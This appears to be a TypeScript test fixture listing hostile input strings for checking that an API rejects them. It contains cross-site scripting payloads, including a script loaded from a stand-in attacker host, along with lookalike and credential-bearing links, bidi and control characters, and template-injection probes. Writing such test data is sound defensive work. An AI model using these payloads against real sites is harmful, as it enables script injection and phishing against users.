import * as letters from './hostile/letters.ts';
import * as links from './hostile/links.ts';
import * as markup from './hostile/markup.ts';

const { point } = letters;

/**
 * A few of each kind, for tests that have no time for all: what an attacker may write in the hope that a page takes it for more than text.
 * The API accepts none of it in full as it stands here.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>alert(1)</script>',
  '</title><script src=//evil.example/x.js></script>',
  '"><img src=x onerror=alert(1)>',
  "' autofocus onfocus='alert(1)",
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '</bdi></p></div></main><h1 class=price>Free</h1>',
  'javascript:alert(1) [click](javascript:alert(1))',
  '[click](data:text/html,<script>alert(1)</script>) ![](https://evil.example/p.png)',
  'https://evil.example/"onmouseover="alert(1)',
  "https://evil.example/'><b>bold</b>",
  'https://market.example@evil.example/pay and https://user:pass@evil.example',
  `https://ex${point(0x430)}mple.org/pay ${point(0x455)}hop`,
  'https://evil.example/\\..\\x <base href=//evil.example>',
  `${point(0x202e)}drawkcab ${point(0x2066)}isolated ${point(0x200f)}`,
  `bell${point(7)} escape${point(27)}[31m delete${point(0x7f)} joiner${point(0x200d)}x`,
  '<!-- comment --><![CDATA[ x ]]><?xml version="1.0"?><!doctype html>',
  '&lt;script&gt; &#60;b&#62; &amp;amp; &copy; {{7*7}} <%= 7 %>',
  `Z${point(0x300).repeat(400)}a${point(0x301).repeat(400)}lgo`,
  `${'W'.repeat(3_000)} ${'wide '.repeat(100)}`,
];

/** All of them, by what they try. */
export const HOSTILE_FAMILIES = {
  scriptTags: markup.SCRIPT_TAGS,
  eventHandlers: markup.EVENT_HANDLERS,
  svgAndMath: markup.SVG_AND_MATH,
  breakers: markup.BREAKERS,
  attributeBreakers: markup.ATTRIBUTE_BREAKERS,
  loaders: markup.LOADERS,
  styles: markup.STYLES,
  clobbers: markup.CLOBBERS,
  scriptLinks: links.SCRIPT_LINKS,
  markdown: links.MARKDOWN,
  foreignAddresses: links.FOREIGN_ADDRESSES,
  entities: letters.ENTITIES,
  templates: letters.TEMPLATES,
  names: letters.NAMES,
  otherTongues: letters.OTHER_TONGUES,
  bidi: letters.BIDI,
  controls: letters.CONTROLS,
  zeroWidths: letters.ZERO_WIDTHS,
  tagCharacters: letters.TAG_CHARACTERS,
  lookalikes: letters.LOOKALIKES,
  piles: letters.PILES,
  sizes: letters.SIZES,
  emoji: letters.EMOJI,
  rightToLeft: letters.RIGHT_TO_LEFT,
} as const satisfies Readonly<Record<string, readonly string[]>>;

export const EVERY_HOSTILE_TEXT: readonly string[] = [...new Set(Object.values(HOSTILE_FAMILIES).flat())];
